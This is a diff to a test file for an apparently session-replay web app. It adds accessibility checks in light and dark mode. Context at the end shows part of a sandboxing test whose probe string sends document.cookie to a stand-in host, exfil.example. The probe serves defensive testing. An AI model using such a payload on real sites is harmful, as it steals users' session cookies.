@@ -6,6 +6,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { gzipSync } from 'node:zlib';
+import { violations } from './axe.mjs';
 import { Api, PASSWORD, Worker, inReplay, launch, root, signIn, staticHost, until } from './support.mjs';
 
 let worker;
@@ -53,6 +54,20 @@ test('only the password lets in, and signing in leads to where one wanted to go'
   await page.getByTestId('empty-first-run').waitFor();
   await page.close();
 });
+
+for (const colorScheme of ['light', 'dark']) {
+  test(`axe finds nothing wrong with the list and the replay (${colorScheme})`, async () => {
+    const sid = await upload([{ type: 2, tagName: 'p', attributes: {}, childNodes: [{ type: 3, textContent: 'a plain page', id: 6 }], id: 5 }]);
+    const page = await browser.newPage({ colorScheme, bypassCSP: true, reducedMotion: 'reduce' });
+    await signIn(page, worker.url);
+    await page.locator(`[data-testid=session-row][data-sid="${sid}"]`).waitFor();
+    assert.deepEqual(await violations(page), [], 'the list');
+    await page.locator(`[data-testid=session-row][data-sid="${sid}"]`).click();
+    await until('it replays', () => inReplay(page, () => document.body.innerText.includes('plain page')));
+    assert.deepEqual(await violations(page), [], 'the replay');
+    await page.close();
+  });
+}
 
 test('a hostile recording runs nothing and reaches nothing', async () => {
   const probe = 'fetch("https://exfil.example/" + document.cookie);top.document.title="owned";parent.postMessage("owned","*")';
